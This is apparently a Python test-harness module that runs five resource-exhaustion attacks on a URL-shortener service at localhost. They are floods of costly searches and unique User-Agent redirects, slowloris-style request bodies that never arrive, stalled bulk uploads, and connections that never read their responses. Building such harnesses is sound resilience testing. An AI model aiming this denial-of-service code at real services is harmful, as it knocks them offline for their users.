"""What one stranger or one account sends at full tilt; each attack runs in a process of its own, until it is ended."""

from __future__ import annotations

import itertools
import os
import random
import socket
import string
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from multiprocessing import Process
from signal import SIGTERM

from testbed.processes import end_with_parent

ADDRESS = "127.0.0.2"
"""Only the attacker has it."""
LETTERS = 2_000
"""Of a target, of a search and of an agent."""


@dataclass(frozen=True)
class Target:
    """What an attacker knows."""

    port: int
    token: str
    """Of the attacker's own account, which has many links with long targets."""
    code: str
    """Of a link."""


def connect(target: Target, address: str = ADDRESS) -> socket.socket:
    """A connection from an address of the attacker."""
    return socket.create_connection(("127.0.0.1", target.port), timeout=30, source_address=(address, 0))


def head(method: str, path: str, *lines: str) -> bytes:
    """The head of a request."""
    return "\r\n".join([f"{method} {path} HTTP/1.1", "Host: sho.rt", *lines, "", ""]).encode()


def read_response(stream: socket.socket) -> None:
    """Reads one response without looking at it."""
    received = b""
    while b"\r\n\r\n" not in received:
        part = stream.recv(65_536)
        if not part:
            raise ConnectionError
        received += part
    start, _, body = received.partition(b"\r\n\r\n")
    length = next((int(line[16:]) for line in start.split(b"\r\n") if line.lower().startswith(b"content-length: ")), 0)
    missing = length - len(body)
    while missing > 0:
        missing -= len(stream.recv(65_536)) or missing


def again_and_again(target: Target, connections: int, requests: Callable[[int], Iterator[bytes]]) -> None:
    """Each connection sends its next request after a response, and is opened again when it ends."""
    def run(number: int) -> None:
        asked = requests(number)
        while True:
            with suppress(OSError), connect(target) as stream:
                for request in asked:
                    stream.sendall(request)
                    read_response(stream)

    threads = [threading.Thread(target=run, args=(number,), daemon=True) for number in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def search(target: Target) -> None:
    """Item 1: searches of the letter that all targets repeat, in each way that a list may be asked for."""
    paths = [f"/{page}q={'a' * count}b" for count in (150, 190, 1_900)
             for page in ("urls/my?", "urls/my?sort=-clicks&", "urls/my?limit=100&")]
    again_and_again(target, 12, lambda number: itertools.cycle(
        [head("GET", path, f"Authorization: Bearer {target.token}") for path in paths[number % 3:] + paths]))


def agents(target: Target) -> None:
    """Item 2: each redirect with an agent that was never sent before."""
    chance = random.Random()

    def requests(number: int) -> Iterator[bytes]:
        base = "".join(chance.choices(string.ascii_letters, k=LETTERS))
        for count in itertools.count():
            turn = count % LETTERS
            made = f"{number}-{count} {base[turn:]}{base[:turn]}" if count % 2 else f"{number}-{count} {'bot' * 170}"
            yield head("GET", f"/{target.code}", f"User-Agent: {made}")

    again_and_again(target, 8, requests)


def bodies(target: Target) -> None:
    """Item 3: 64 requests a second whose bodies never come."""
    paths = ("report", "app/report", "urls/shorten", "urls/bulk", "auth/register", "auth/login", "app/login")
    waiting: list[socket.socket] = []
    for number in itertools.count():
        with suppress(OSError):
            stream = connect(target)
            stream.sendall(head("POST", f"/{paths[number % len(paths)]}", "Content-Type: application/json",
                                f"Authorization: Bearer {target.token}", "Content-Length: 1000"))
            waiting.append(stream)
        if len(waiting) > 1_000:
            waiting.pop(0).close()
        # As many as may be worked on at once come in the beginning, which a patient attacker reaches, too.
        time.sleep(0 if number < 512 else 1 / 64)


def uploads(target: Target) -> None:
    """Item 4: two uploads of one account that begin and go no further, one of them in chunks."""
    own = ("Content-Type: application/json", f"Authorization: Bearer {target.token}")
    while True:
        with suppress(OSError), connect(target) as announced, connect(target) as chunked:
            announced.sendall(head("POST", "/urls/bulk", *own, "Content-Length: 8000000") + b"[" + b" " * 65_536)
            chunked.sendall(head("POST", "/urls/bulk", *own, "Transfer-Encoding: chunked") + b"10000\r\n" + b" " * 65_536 + b"\r\n")
            for _ in range(600):
                time.sleep(0.1)
                announced.sendall(b" ")
                chunked.sendall(b"1\r\n \r\n")


def unread(target: Target) -> None:
    """Item 5: 150 connections of two addresses that ask and do not read: for lists, and without an account for the API's document."""
    lists = head("GET", "/urls/my?limit=1000", f"Authorization: Bearer {target.token}")
    document = head("GET", "/openapi.json")
    waiting: dict[int, socket.socket] = {}
    while True:
        for number in range(150):
            request = (lists if number % 2 else document) * 20
            with suppress(OSError):
                if number not in waiting:
                    waiting[number] = connect(target, ADDRESS if number < 75 else "127.0.0.4")
                    waiting[number].setblocking(False)
                waiting[number].send(request)
                continue
            if number in waiting and is_ended(waiting[number]):
                waiting.pop(number).close()
        time.sleep(0.1)


def is_ended(stream: socket.socket) -> bool:
    """Whether the server has closed a connection; nothing is read."""
    try:
        return not stream.recv(1, socket.MSG_PEEK)
    except BlockingIOError:
        return False
    except OSError:
        return True


ATTACKS: dict[str, Callable[[Target], None]] = {each.__name__: each for each in (search, agents, bodies, uploads, unread)}


@contextmanager
def under(attack: str, target: Target) -> Iterator[None]:
    """An attack in a process of its own. It gives way to the service, as an attacker has a machine of its own."""
    def run() -> None:
        end_with_parent(SIGTERM)
        os.nice(19)
        ATTACKS[attack](target)

    process = Process(target=run, daemon=True)
    process.start()
    try:
        yield
    finally:
        process.kill()
        process.join()
